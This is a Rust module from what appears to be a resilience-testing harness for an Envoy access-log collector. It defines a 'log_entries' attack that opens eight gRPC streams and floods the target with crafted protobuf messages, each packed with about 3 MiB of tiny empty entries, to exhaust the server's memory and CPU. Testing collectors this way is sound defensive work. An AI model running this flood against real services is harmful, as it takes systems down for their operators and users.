//! Access-log streams of messages that consist of the smallest entries.

use crate::attack::Attack;
use crate::collector::Target;
use crate::wire::LOG;
use hopscope_mesh::raw_codec::RawCodec;
use hopscope_proto::envoy::config::core::v3::Node;
use hopscope_proto::envoy::service::accesslog::v3::StreamAccessLogsMessage;
use hopscope_proto::envoy::service::accesslog::v3::stream_access_logs_message::Identifier;
use prost::Message;
use prost::bytes::Bytes;
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_stream::StreamExt;
use tonic::Request;

/// Bytes of the entries of one message.
const ENTRIES_BYTES: usize = 3 << 20;

pub(super) const ATTACK: Attack = Attack {
    name: "log_entries",
    is_quick: true,
    edges: 0,
    run: |target, duration| {
        Box::pin(async move {
            let mut streams = JoinSet::new();
            for _ in 0..8 {
                streams.spawn(stream(target));
            }
            let _ = timeout(duration, async { while streams.join_next().await.is_some() {} }).await;
        })
    },
};

/// Message of empty HTTP entries, each two bytes.
fn message() -> Bytes {
    let node = Node { id: "sidecar~10.0.0.9~evil.shop~shop.svc.cluster.local".into(), ..Node::default() };
    let identifier = Some(Identifier { node: Some(node), log_name: "x".into() });
    let mut bytes = StreamAccessLogsMessage { identifier, log_entries: None }.encode_to_vec();
    bytes.push(0x12);
    prost::encoding::encode_varint(ENTRIES_BYTES as u64, &mut bytes);
    bytes.extend([0x0a, 0].repeat(ENTRIES_BYTES / 2));
    bytes.into()
}

/// Sends messages for as long as the stream is open.
async fn stream(target: Target) {
    let endpoint = tonic::transport::Endpoint::from_shared(format!("http://{}", target.grpc)).unwrap();
    let message = message();
    let Ok(channel) = endpoint.connect().await else { return };
    let mut grpc = tonic::client::Grpc::new(channel);
    if grpc.ready().await.is_ok() {
        let messages = tokio_stream::iter(std::iter::repeat(message)).take(100_000);
        // The end of the stream is the server's answer.
        let _ = grpc.client_streaming(Request::new(messages), LOG.parse().unwrap(), RawCodec).await;
    }
}
